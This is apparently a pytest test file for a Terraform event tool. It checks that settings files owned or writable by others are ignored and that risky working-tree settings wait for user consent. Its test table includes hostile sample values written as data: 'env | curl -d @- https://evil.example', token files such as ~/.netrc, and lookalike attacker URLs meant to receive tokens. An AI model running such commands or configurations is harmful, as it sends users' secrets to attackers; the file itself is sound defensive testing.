"""Whose settings are read, and what those of a working tree may do before their user has consented."""

import grp
import os
import stat
from pathlib import Path

import pytest

from change_events.destinations import kinds
from change_events.destinations.shared import vendor_hosts
from change_events.files import trusted_files
from change_events.settings import load_leniently
from tests.cli.home import Home
from tests.support.receiver import Receiver
from tf_wrapper.launch import binary_setting

NOBODY = 65534
SECRET = "11111111-2222-3333-4444-555555555555"
as_root = pytest.mark.skipif(os.getuid() != 0, reason="only root can make files of another user")


@pytest.fixture(autouse=True)
def _own_folders(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("TFEVENT_STATE_DIR", str(tmp_path / "state"))
    monkeypatch.delenv(trusted_files.VARIABLE, raising=False)
    binary_setting.reported.clear()


@pytest.fixture
def tree(tmp_path):
    (tmp_path / "tree").mkdir()
    return tmp_path / "tree"


@pytest.fixture
def machine(tmp_path, tree):
    home = Home(tmp_path)
    del home.environ[trusted_files.VARIABLE]
    home.path = tree
    return home


def write(folder, text, name="tfevent.yaml"):
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text)
    return folder / name


def consent(path, *programs):
    known = {str(one): trusted_files.digest(str(one)) for one in (path, *programs)}
    trusted_files.keep_consents(os.environ["TFEVENT_STATE_DIR"], known)


# -- whose file --------------------------------------------------------------------------------------------------------


def owned(path):
    os.chown(path, NOBODY, -1)


def in_a_folder_of(path):
    os.chown(path.parent, NOBODY, -1)


@as_root
@pytest.mark.parametrize("theirs", [owned, in_a_folder_of])
def test_what_belongs_to_somebody_else_is_not_read(tree, theirs):
    path = write(tree, "environment: prod\nbinary: /bin/false\n")
    theirs(path)
    settings, (mistake,) = load_leniently(tree / "deep", {})
    assert (settings.environment, settings.binary, settings.files) == (None, None, ())
    assert "belongs to nobody" in mistake
    assert "any-owner" in mistake
    assert binary_setting.binary(str(tree)) is None
    assert load_leniently(tree, {trusted_files.VARIABLE: "1"})[1] == (mistake,), (
        "consent does not change whose file it is"
    )
    settings, mistakes = load_leniently(tree, {trusted_files.VARIABLE: "any-owner"})
    assert (settings.environment, settings.binary, mistakes) == ("prod", "/bin/false", ())


@as_root
def test_a_link_to_a_file_of_somebody_else_is_not_followed(tree, tmp_path):
    other = write(tmp_path / "other", "environment: prod\n")
    os.chown(other, NOBODY, -1)
    (tree / "tfevent.yaml").symlink_to(other)
    settings, (mistake,) = load_leniently(tree, {})
    assert settings.environment is None
    assert "belongs to nobody" in mistake


@pytest.mark.parametrize("where", ["file", "folder"])
@pytest.mark.parametrize(("mode", "read"), [(0o706, False), (0o755, True), (0o1757, None)])
def test_what_others_can_write_is_not_read(tree, where, mode, read):
    path = write(tree, "environment: prod\n")
    (path if where == "file" else tree).chmod(mode if where == "folder" or mode < 0o1000 else 0o646)
    settings, mistakes = load_leniently(tree, {})
    expected = where == "folder" if read is None else read  # in a sticky folder nobody else can replace our file
    assert settings.environment == ("prod" if expected else None)
    assert all("others can write" in mistake for mistake in mistakes)
    assert bool(mistakes) is not expected


@as_root
def test_a_group_of_its_owner_alone_may_write_it(tree):
    """The umask 002 of distributions that give each user a group of their own."""
    path = write(tree, "environment: prod\n")
    path.chmod(0o664)
    assert load_leniently(tree, {})[0].environment == "prod"
    shared = next(group.gr_gid for group in grp.getgrall() if group.gr_gid and group.gr_name != "root")
    os.chown(path, 0, shared)
    assert load_leniently(tree, {})[0].environment is None


@as_root
@pytest.mark.parametrize("key", ["title_template_file", "message_template_file"])
def test_a_file_that_the_settings_name_is_held_to_the_same(tree, key):
    write(tree, f"{key}: title.j2\n")
    template = write(tree, "{{ title }}", "title.j2")
    assert load_leniently(tree, {})[1] == ()
    os.chown(template, NOBODY, -1)
    (mistake,) = load_leniently(tree, {})[1]
    assert "title.j2 is not read, it belongs to nobody" in mistake


# -- what needs consent ------------------------------------------------------------------------------------------------

ASKS = {
    "binary: ./terraform": "binary",
    "journal: /elsewhere/journal.db": "journal",
    "journal: ../journal.db": "journal",
    "title_template_file: ../secret.j2": "title_template_file",
    "title_template_file: terraform.tfvars": "title_template_file",
    "title_template_file: .env.txt": "title_template_file",
    "title_template_file: link.j2": "title_template_file",
    "keep: {events: 1}": "keep.events",
    "outbox: {days: 1}": "outbox.days",
    "budget: 5000": "budget",
    "environment: ${AWS_SECRET_ACCESS_KEY}": "environment",
    "tags: {a: '${GITHUB_TOKEN:-x}'}": "tags",
    "destinations: {sematext: {token_command: touch ../ran}}": "destinations.sematext.token_command",
    "destinations: {sematext: {token_file: ~/.netrc}}": "destinations.sematext.token_file",
    "destinations: {sematext: {token: t, ca_file: /ca.pem}}": "destinations.sematext.ca_file",
    "destinations: {sematext: {token: '${T}', ca_file: ca.pem}}": "destinations.sematext.ca_file",
    "destinations: {sematext: {receiver: 'https://evil.example'}}": "destinations.sematext.receiver",
    "destinations: {sematext: {token: '${T}', receiver: 'https://evil.example'}}": "destinations.sematext.receiver",
    "destinations: {sematext: {receiver: 'https://sematext.com.evil.example'}}": "destinations.sematext.receiver",
    "destinations: {sematext: {receiver: 'https://sematext.com@evil.example'}}": "destinations.sematext.receiver",
    "destinations: {sematext: {receiver: 'https://evil.example\\@sematext.com'}}": "destinations.sematext.receiver",
    "destinations: {sematext: {receiver: 'http://event-receiver.sematext.com'}}": "destinations.sematext.receiver",
    "destinations: {slack: {channel: c, api: 'https://evil.example'}}": "destinations.slack.api",
    "destinations: {grafana: {url: 'https://evil.example'}}": "destinations.grafana.url",
    "destinations: {g: {kind: grafana, url: 'https://evil.example', token: '${T}'}}": "destinations.g.url",
    "destinations: {g: {kind: grafana, url: 'https://evil.example', token_file: token}}": "destinations.g.url",
    "destinations: {w: {kind: webhook, url: 'http://evil.example'}}": "destinations.w.url",
    "destinations: {w: {kind: webhook, url: 'HTTP://evil.example'}}": "destinations.w.url",
    "destinations: {w: {kind: webhook, url: 'https://${HOST}/'}}": "destinations.w.url",
    "destinations: {w: {kind: webhook, url: 'https://e.example', headers: {a: '${T}'}}}": "destinations.w.url",
    "destinations: {w: {kind: webhook, url: 'https://e.example', tags: {a: '${MY_TOKEN}'}}}": "destinations.w.tags",
    "destinations: {w: {kind: webhook, url: 'https://e.example', title_template_file: /etc/hostname}}": (
        "destinations.w.title_template_file"
    ),
    "destinations: {e: {kind: eventbridge, bus: b, endpoint: 'https://x.execute-api.eu-west-1.amazonaws.com'}}": (
        "destinations.e.endpoint"
    ),
    # a pull request may neither start a program nor have tokens of the job sent elsewhere
    "destinations: {command: {command: ./notify}}": "destinations.command.command",
    "destinations: {own: {kind: command, command: [sh, -c, 'env | curl -d @- https://evil.example']}}": (
        "destinations.own.command"
    ),
    "destinations: {github: {api: 'https://evil.example'}}": "destinations.github.api",
    "destinations: {github: {api: 'http://api.github.com'}}": "destinations.github.api",
    "destinations: {github: {ca_file: ca.pem}}": "destinations.github.ca_file",
    "destinations: {g: {kind: github, token: '${GITHUB_TOKEN}', api: 'https://evil.example'}}": "destinations.g.api",
    "destinations: {g: {kind: github, token: '${GITHUB_TOKEN}', api: 'https://github.com.evil.example'}}": (
        "destinations.g.api"
    ),
    "destinations: {g: {kind: github, token_command: gh auth token}}": "destinations.g.token_command",
    "destinations: {gitlab: {url: 'https://evil.example'}}": "destinations.gitlab.url",
    "destinations: {gitlab: {api: 'https://evil.example/api/v4'}}": "destinations.gitlab.api",
    "destinations: {g: {kind: gitlab, token: '${CI_JOB_TOKEN}', token_type: job, url: 'https://evil.example'}}": (
        "destinations.g.url"
    ),
    "destinations: {servicenow: {url: 'https://evil.service-now.com'}}": "destinations.servicenow.url",
    "destinations: {s: {kind: servicenow, user: u, password: '${T}', url: 'https://evil.example'}}": (
        "destinations.s.url"
    ),
    "destinations: {s: {kind: servicenow, client_id: c, client_secret: '${T}', url: 'https://evil.example'}}": (
        "destinations.s.url"
    ),
    "destinations: {s: {kind: servicenow, user: u, password_command: pass x}}": "destinations.s.password_command",
    "destinations: {jira: {url: 'https://evil.atlassian.net'}}": "destinations.jira.url",
    "destinations: {jira: {api: 'https://evil.example'}}": "destinations.jira.api",
    "destinations: {j: {kind: jira, client_id: c, client_secret: '${T}', api: 'https://evil.example'}}": (
        "destinations.j.api"
    ),
    "destinations: {j: {kind: jira, user: u, token: '${T}', url: 'https://evil.example'}}": "destinations.j.url",
    "destinations: {j: {kind: jira, token_command: cat x}}": "destinations.j.token_command",
    "destinations: {a: {kind: azuremonitor, resource: r, client_secret_command: az x}}": (
        "destinations.a.client_secret_command"
    ),
    "destinations: {a: {kind: azuremonitor, resource: r, management_url: 'https://evil.example'}}": (
        "destinations.a.management_url"
    ),
    "destinations: {a: {kind: azuremonitor, resource: r, imds_url: 'https://evil.example'}}": "destinations.a.imds_url",
    "destinations: {a: {kind: azuremonitor, resource: r, imds_url: 'http://evil.example'}}": "destinations.a.imds_url",
    "destinations: {azuremonitor: {login_url: 'https://evil.example'}}": "destinations.azuremonitor.login_url",
    "destinations: {a: {kind: azuremonitor, resource: r, ca_file: ca.pem}}": "destinations.a.ca_file",
    "destinations: {email: {host: evil.example}}": "destinations.email.host",
    "destinations: {m: {kind: email, host: evil.example, password: '${T}'}}": "destinations.m.host",
    "destinations: {m: {kind: email, host: '${HOST}', from: a@b.example}}": "destinations.m.host",
    "destinations: {m: {kind: email, host: mail.example, security: none}}": "destinations.m.security",
    "destinations: {m: {kind: email, host: mail.example, password_command: pass x}}": "destinations.m.password_command",
    "destinations: {m: {kind: email, host: mail.example, to: ['${GITHUB_TOKEN}@evil.example']}}": "destinations.m.to",
    "destinations: {d: {kind: discord, url: '${T}'}}": "destinations.d.url",
    "destinations: {d: {kind: googlechat, url: '${T}'}}": "destinations.d.url",
    "destinations: {d: {kind: mattermost, url: 'http://evil.example'}}": "destinations.d.url",
}
ENVIRON = {
    "TFEVENT_SEMATEXT_TOKEN": SECRET,
    "TFEVENT_SLACK_TOKEN": "xoxb-1",
    "TFEVENT_GRAFANA_TOKEN": "glsa_1",
    "T": "t",
    "HOST": "h",
    "MY_TOKEN": "t",
    "AWS_SECRET_ACCESS_KEY": "k",
    "GITHUB_TOKEN": "g",
    "CI_JOB_TOKEN": "j",
    "TFEVENT_GITHUB_TOKEN": "ghs_1",
    "TFEVENT_GITLAB_TOKEN": "glpat-1",
    "TFEVENT_SERVICENOW_PASSWORD": "p",
    "TFEVENT_JIRA_TOKEN": "j",
    "TFEVENT_AZUREMONITOR_CLIENT_SECRET": "s",
    "TFEVENT_EMAIL_PASSWORD": "m",
}


@pytest.mark.parametrize(("text", "key"), ASKS.items())
def test_it_waits_for_consent_and_the_rest_works(tree, text, key):
    for name in ("secret.j2", "tree/terraform.tfvars", "tree/.env.txt", "tree/token", "tree/ca.pem"):
        (tree.parent / name).write_text("{{ title }}")
    (tree / "link.j2").symlink_to("../secret.j2")
    path = write(tree, f"{text}\nservice: shop\n")
    settings, mistakes = load_leniently(tree, ENVIRON)
    (mistake,) = [mistake for mistake in mistakes if "consent" in mistake]
    assert mistake.startswith(f"{path}: not used without your consent: {key} (")
    assert f"tfevent events trust {path}" in mistake
    assert settings.service == "shop"
    assert not (tree.parent / "ran").exists()
    if key.startswith("destinations."):
        assert [one.name for one in settings.broken] == [key.split(".")[1]], "events wait for it"
        assert settings.broken[0].options == {}
    else:
        assert settings.binary is None
        assert settings.journal == tree.parent / "state" / "journal.db"
        assert (settings.title_template, settings.keep_events, settings.outbox_days) == (None, 100_000, 30)
        assert (settings.budget, settings.environment, settings.tags) == (3.0, None, {})


@pytest.mark.parametrize(("text", "key"), ASKS.items())
def test_the_users_own_settings_and_trusted_ones_wait_for_nothing(tree, tmp_path, text, key):
    del key
    write(tmp_path / "config" / "tfevent", f"{text}\n")
    assert not [mistake for mistake in load_leniently(tree, ENVIRON)[1] if "consent" in mistake]
    write(tree, f"{text}\n")
    environ = {**ENVIRON, trusted_files.VARIABLE: "1"}
    assert not [mistake for mistake in load_leniently(tree, environ)[1] if "consent" in mistake]
    consent(tree / "tfevent.yaml")
    assert not [mistake for mistake in load_leniently(tree, ENVIRON)[1] if "consent" in mistake]


@pytest.mark.parametrize(
    "text",
    [
        "destinations: {sematext: {token: '${SEMATEXT_TOKEN}', region: eu}}",
        "destinations: {sematext: {token: '${SEMATEXT_TOKEN}', receiver: 'https://event-receiver.eu.sematext.com'}}",
        "destinations: {slack: {token: '${SLACK}', channel: '#ops'}}",
        "destinations: {github: {token: '${GITHUB_TOKEN}', publish: [comment, status]}}",
        "destinations: {gitlab: {token: '${CI_JOB_TOKEN}', url: 'https://gitlab.com'}}",
        "destinations: {m: {kind: email, host: mail.example, from: a@b.example, to: [ops@b.example]}}",
        "destinations: {w: {kind: webhook, url: 'https://hooks.example.com/x', headers: {a: b}}}",
        "destinations: {w: {kind: webhook, url: 'https://hooks.example.com/x', secret: s, tags: {a: '${BRANCH}'}}}",
        "environment: ${BRANCH}",
        "title_template_file: templates/title.j2",
        "keep: {events: 200000}",
        "redact: {patterns: ['${X_TOKEN}']}",
    ],
)
def test_what_teams_share_needs_no_consent(tree, text):
    write(tree / "templates", "{{ title }}", "title.j2")
    write(tree, f"{text}\n")
    environ = {"SEMATEXT_TOKEN": SECRET, "SLACK": "xoxb-1", "BRANCH": "main", "GITHUB_TOKEN": "g", "CI_JOB_TOKEN": "j"}
    assert load_leniently(tree, environ)[1] == ()


def test_the_tree_does_not_switch_encryption_off_for_a_server_of_the_environments(tree):
    """`security: none` is for a server on this machine, which the one that is used is not."""
    write(tree, "destinations: {email: {host: localhost, security: none}}\n")
    environ = {f"TFEVENT_EMAIL_{key}": f"{key.lower()}@mail.example" for key in ("FROM", "TO")}
    settings, (mistake,) = load_leniently(tree, {**environ, "TFEVENT_EMAIL_HOST": "mail.example"})
    assert "destinations.email.security (plain text)" in mistake
    assert settings.destinations == ()
    assert load_leniently(tree, environ)[1] == ()


def test_an_address_of_the_environments_may_get_its_secrets(tree):
    write(tree, "destinations: {grafana: {url: 'https://theirs.example'}}\n")
    environ = {"TFEVENT_GRAFANA_TOKEN": "t", "TFEVENT_GRAFANA_URL": "https://mine.example"}
    settings, mistakes = load_leniently(tree, environ)
    assert mistakes == ()
    assert settings.destinations[0].options["url"] == "https://mine.example"


def test_consent_holds_for_one_content_and_for_the_programs_it_names(tree):
    (tree / "token.sh").write_text("#!/bin/sh\necho 1")
    (tree / "token.sh").chmod(0o755)
    path = write(tree, "binary: ./token.sh\ndestinations: {sematext: {token_command: ./token.sh}}\n")
    consent(path, tree / "token.sh")
    settings, mistakes = load_leniently(tree, {})
    assert (mistakes, settings.binary) == ((), "./token.sh")
    assert binary_setting.binary(str(tree)) == "./token.sh"
    (tree / "token.sh").write_text("#!/bin/sh\ntouch ran; echo 1")
    settings, (mistake,) = load_leniently(tree, {})
    assert "binary (a program); destinations.sematext.token_command (a command)" in mistake
    assert settings.binary is None
    assert binary_setting.binary(str(tree)) is None
    assert not (tree / "ran").exists()
    consent(path, tree / "token.sh")
    path.write_text(path.read_text() + "\n")
    assert load_leniently(tree, {})[0].binary is None
    assert binary_setting.binary(str(tree)) is None


@as_root
def test_a_list_of_consents_that_others_could_have_written_counts_for_nothing(tree, tmp_path):
    path = write(tree, "binary: x\n")
    consent(path)
    assert load_leniently(tree, {})[0].binary == "x"
    store = tmp_path / "state" / trusted_files.STORE
    assert stat.S_IMODE(store.stat().st_mode) == 0o600
    os.chown(store, NOBODY, -1)
    assert load_leniently(tree, {})[0].binary is None
    os.chown(store, 0, -1)
    store.rename(tmp_path / "elsewhere")
    store.symlink_to(tmp_path / "elsewhere")
    assert load_leniently(tree, {})[0].binary is None


def test_own_hosts_are_of_kinds_that_there_are():
    assert set(vendor_hosts.DOMAINS) <= set(kinds())
    assert vendor_hosts.is_own("sematext", "https://event-receiver.sematext.com/x")
    assert not vendor_hosts.is_own("sematext", "https://notsematext.com/x")
    assert not vendor_hosts.is_own("webhook", "https://sematext.com")


# -- as a person meets it ----------------------------------------------------------------------------------------------


def test_events_wait_until_consent_and_are_then_delivered(machine, tree):
    with Receiver() as receiver:
        write(tree, f"destinations:\n  hook:\n    kind: webhook\n    url: {receiver.url}\n")
        done = machine.run("send", "--title", "one")
        assert done.stderr.decode().count("not used without your consent: destinations.hook.url (plain http)") == 1
        assert "hook waiting" in done.stdout.decode() + done.stderr.decode()
        assert receiver.received == []
        output = machine.events("trust")
        assert "destinations.hook.url (plain http)" in output
        assert machine.events("trust", "--list").split() == [str(tree / "tfevent.yaml")]
        machine.events("flush")
        assert [request.json()["title"] for request in receiver.accepted] == ["one"]
        machine.events("trust", "--revoke")
        assert "no file is trusted" in machine.events("trust", "--list")
        assert b"consent" in machine.run("list").stderr


def test_a_token_of_the_environment_does_not_go_where_the_tree_says(machine, tree):
    with Receiver() as receiver:
        write(tree, f"destinations: {{sematext: {{receiver: '{receiver.url}'}}}}\n")
        machine.run("send", "--title", "one", env={"TFEVENT_SEMATEXT_TOKEN": SECRET})
        machine.run("doctor", "--send-test", env={"TFEVENT_SEMATEXT_TOKEN": SECRET})
        machine.run("flush", env={"TFEVENT_SEMATEXT_TOKEN": SECRET})
        assert receiver.received == []


def test_doctor_says_whose_word_each_value_is(machine, tree, tmp_path):
    write(tmp_path / ".config" / "tfevent", "service: shop\n")
    write(tree, "environment: prod\n")
    output = machine.run("doctor", env={"TFEVENT_BUDGET": "2"}).stdout.decode()
    assert "budget from TFEVENT_BUDGET (environment)" in output
    assert f"environment from {tree / 'tfevent.yaml'}:1 (working tree)" in output
    assert f"service from {tmp_path / '.config/tfevent/tfevent.yaml'}:1 (your settings folder)" in output


def test_trust_says_what_is_wrong(machine, tree):
    assert b"no tfevent.yaml found in this directory or above: expected a FILE" in machine.run("trust").stderr
    assert b"No such file" in machine.run("trust", "none.yaml").stderr
    write(tree, "environment: prod\n").chmod(0o666)
    assert b"others can write it" in machine.run("trust").stderr
    assert not Path(machine.state / trusted_files.STORE).exists()
